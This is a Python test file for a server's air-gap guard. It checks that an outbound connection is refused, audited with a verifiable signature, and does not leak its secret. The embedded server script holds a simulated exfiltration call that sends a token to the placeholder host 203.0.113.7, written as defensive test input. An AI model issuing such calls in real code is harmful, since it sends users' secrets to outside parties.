"""An outbound connection from inside a server process is refused, and lands in the audit."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from sqlalchemy import select

from inhouse.audit.check import verify
from inhouse.audit.trail import load_audit_key
from inhouse.store.db import open_database
from inhouse.store.tables import AuditEntry

SERVER_PROCESS = """
import sys
from pathlib import Path

import httpx

from inhouse.airgap import guard_from_settings
from inhouse.api.app import create_app
from inhouse.api.housekeeping import record_refused_connections
from inhouse.config import load_settings
from inhouse.models.resolver import SingleModel

settings = load_settings(None, home=Path(sys.argv[1]))
guard_from_settings(settings)
app = create_app(settings, resolver=SingleModel("m", Path("/dev/null")), build=lambda spec: None)
try:
    httpx.get("http://203.0.113.7:8080/report?token=s3cret", timeout=5)
    print("CONNECTED")
except httpx.ConnectError as exc:
    print("REFUSED", exc)
print("RECORDED", record_refused_connections(app.state.inhouse))
"""


def test_an_outbound_connection_is_refused_and_audited(tmp_path: Path) -> None:
    home = tmp_path / "home"
    run = subprocess.run(
        [sys.executable, "-c", SERVER_PROCESS, str(home)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    assert "REFUSED" in run.stdout and "CONNECTED" not in run.stdout
    assert "RECORDED 1" in run.stdout
    assert "s3cret" not in run.stdout + run.stderr

    db = open_database(f"sqlite:///{home / 'inhouse.db'}")
    try:
        with db.read() as session:
            entries = list(
                session.scalars(select(AuditEntry).where(AuditEntry.action == "network.refused"))
            )
        assert [e.target for e in entries] == ["203.0.113.7:8080"]
        assert entries[0].actor == "system:air-gap"
        assert verify(db, load_audit_key(home / "audit.key")).ok
    finally:
        db.close()
